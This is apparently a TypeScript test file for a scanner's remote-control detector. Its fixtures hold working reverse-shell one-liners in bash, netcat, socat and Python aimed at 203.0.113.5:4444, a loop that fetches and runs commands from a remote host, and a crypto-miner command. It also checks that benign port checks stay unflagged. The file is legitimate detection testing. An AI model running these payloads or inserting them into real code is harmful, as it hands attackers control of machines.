import { describe, expect, it } from "vitest";
import { remoteControl } from "../../detectors/remote-control.ts";
import { signalsOf } from "../../testing/signals-of.ts";

const of = (path: string, text: string) => signalsOf(remoteControl, { [path]: text });

describe("remote-control: remote control", () => {
  it.each([
    ["bash over TCP", "a.sh", "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n"],
    ["netcat with a program", "a.sh", "#!/bin/bash\nnc 203.0.113.5 4444 -e /bin/sh\n"],
    [
      "netcat in a ring",
      "a.sh",
      "#!/bin/bash\nmkfifo /tmp/p; cat /tmp/p | sh -i 2>&1 | nc 203.0.113.5 4444 > /tmp/p\n",
    ],
    ["socat", "a.sh", "#!/bin/bash\nsocat exec:'bash -li',pty tcp:203.0.113.5:4444\n"],
    [
      "Python",
      "a.py",
      "import socket,os,pty\ns=socket.socket()\ns.connect(('203.0.113.5',4444))\nos.dup2(s.fileno(),0)\npty.spawn('sh')\n",
    ],
  ])("blocks a shell handed out by %s", async (_, path, text) => {
    expect(await of(path, text)).toContain(`remote-control.reverse-shell conclusive ${path}`);
  });

  it("blocks a loop that takes orders", async () => {
    const script = `import subprocess, time, requests
while True:
    order = requests.get("https://unknown.example/next").text
    subprocess.run(order, shell=True)
    time.sleep(10)
`;
    expect(await of("a.py", script)).toContain("remote-control.takes-orders conclusive a.py");
  });

  it("asks about a miner", async () => {
    expect(await of("a.sh", "#!/bin/sh\n./x -o stratum+tcp://pool.example:3333 -u w\n")).toContain(
      "remote-control.miner conclusive a.sh",
    );
  });

  it("stays quiet on waiting for a port, local servers and databases", async () => {
    const wait = `import socket, subprocess, sys
socket.create_connection(("localhost", 3000), timeout=1)
subprocess.Popen(sys.argv[1], shell=True)
`;
    expect(await of("a.py", wait)).toEqual([]);
    expect(await of("a.sh", "#!/bin/sh\nuntil nc -z db 5432; do sleep 1; done\n")).toEqual([]);
    expect(
      await of(
        "b.py",
        "import psycopg2, subprocess\npsycopg2.connect('x')\nsubprocess.run(['sh', '-c', 'ls'])\n",
      ),
    ).toEqual([]);
  });
});
